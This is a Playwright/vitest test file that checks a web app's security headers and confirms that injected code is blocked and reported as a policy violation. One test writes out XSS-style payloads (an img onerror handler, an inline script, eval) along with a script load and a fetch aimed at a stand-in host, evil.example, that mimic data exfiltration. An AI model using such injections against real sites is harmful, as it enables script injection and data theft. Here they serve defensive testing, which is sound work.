import { stackFromEnvironment } from '@peace/dev/stack/addresses'
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { oneBrowser } from './harness/browser.ts'
import { enterMadeFilm } from './harness/made-film.ts'
import { visit } from './harness/visitor.ts'
import { words } from './harness/words.ts'

const browser = oneBrowser()

type Kept = Window & { against?: string[] }

// What a page did against its policy, from its first script on.
const watched = async (keptOnDevice: boolean) => {
  const visitor = await visit(browser(), { language: 'th', keptOnDevice })
  await visitor.context.addInitScript(() => {
    const kept = window as Kept
    kept.against = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      kept.against?.push(`${effectiveDirective} ${blockedURI} ${sample}`),
    )
  })
  return visitor
}
const against = (page: Page) => page.evaluate(() => (window as Kept).against)

test('pages are served with a policy that lets in no code but ours, and may not be framed', async () => {
  const { headers } = await fetch(stackFromEnvironment().webUrl)
  const policy = headers.get('content-security-policy') ?? ''
  const directive = (name: string) => policy.split('; ').find((one) => one.startsWith(`${name} `)) ?? ''
  expect(directive('script-src')).toMatch(/^script-src 'self' https:/)
  expect(directive('script-src')).not.toMatch(/unsafe|\*|http:|data:/)
  expect(directive('frame-ancestors')).toBe("frame-ancestors 'none'")
  expect(directive('object-src')).toBe("object-src 'none'")
  expect(directive('base-uri')).toBe("base-uri 'none'")
  expect(directive('require-trusted-types-for')).toBe("require-trusted-types-for 'script'")
  expect(headers.get('cross-origin-opener-policy')).toBe('same-origin-allow-popups')
  expect(headers.get('x-content-type-options')).toBe('nosniff')
  expect(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
  expect(headers.get('permissions-policy')).toContain('camera=()')
})

test('what is put into a page from outside does not run, and is told', async () => {
  const { page, go } = await watched(false)
  await go('/')
  await page.locator('#main h1').waitFor()
  const outcome = await page.evaluate(async () => {
    const tried: string[] = []
    const attempt = (name: string, act: () => void) => {
      try {
        act()
        tried.push(name)
      } catch {
        // Refused at once.
      }
    }
    attempt('markup', () => {
      document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror="window.ran=1">'
    })
    attempt('text', () => {
      const script = document.createElement('script')
      script.textContent = 'window.ran = 1'
      document.body.append(script)
    })
    attempt('elsewhere', () => {
      document.createElement('script').src = 'https://evil.example/x.js'
    })
    // Later, when this is no longer the test's own errand, which the browser lets do more.
    await new Promise<void>((done) =>
      setTimeout(() => {
        // biome-ignore lint/security/noGlobalEval: what an intruder would try
        attempt('eval', () => globalThis.eval('window.ran = 1'))
        done()
      }),
    )
    await fetch('https://evil.example/take').catch(() => tried.push('sent nothing'))
    return { tried, ran: 'ran' in window }
  })
  expect(outcome).toEqual({ tried: ['sent nothing'], ran: false })
  expect((await against(page))?.some((one) => one.startsWith('connect-src https://evil.example'))).toBe(true)
})

test('sign-in with Google opens its window, which still knows who opened it', async () => {
  const { page, context, go } = await watched(false)
  await go('/sign-in')
  await page.route('https://apis.google.com/**', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: 'window.gapi={load:(n,o)=>o.callback(),iframes:{CROSS_ORIGIN_IFRAMES_FILTER:{},getContext:()=>({open:(o,f)=>f({restyle:()=>{},ping:(g)=>{g&&g();return Promise.resolve()},register:()=>{},send:(n,m,cb)=>cb&&cb([{webStorageSupport:true}])})})}};const s=document.currentScript;window[new URL(s.src).searchParams.get("onload")]?.()',
    }),
  )
  // The window may be gone again before it can be asked.
  await context.addInitScript(() => {
    if (window.opener) console.info('opened by a page')
  })
  const told = context.waitForEvent('console', { predicate: (message) => message.text() === 'opened by a page' })
  await page.getByRole('button', { name: words('th', 'sign-in')('google') }).click()
  await told
  expect(await against(page)).toEqual([])
})

test('the rooms, the worker that keeps the app, pictures and the film ask for nothing that the policy refuses', {
  timeout: 900_000,
}, async () => {
  const visitor = await watched(true)
  const { page } = visitor
  const film = await enterMadeFilm(visitor)
  for (const path of ['/films/new', '/workspace/machines', '/workspace/billing', '/profile', '/pricing']) {
    await visitor.go(path)
    await page.locator('#main h1').first().waitFor()
    expect(await against(page), path).toEqual([])
  }
  for (const room of ['story', 'cast', 'script', 'board', 'film']) {
    await visitor.go(`${film}/${room}`)
    await page.locator('#main :is(h1, h2, .cm-line, video)').first().waitFor()
    expect(await against(page), room).toEqual([])
  }
  const video = page.locator('video')
  await video.waitFor({ timeout: 600_000 })
  await expect
    .poll(() => video.evaluate((element: HTMLVideoElement) => element.readyState), { timeout: 60_000 })
    .toBeGreaterThan(1)
  await page.keyboard.press('Control+k')
  await page.getByRole('dialog').waitFor()
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true))
  expect(await against(page)).toEqual([])
  await visitor.leave()
})
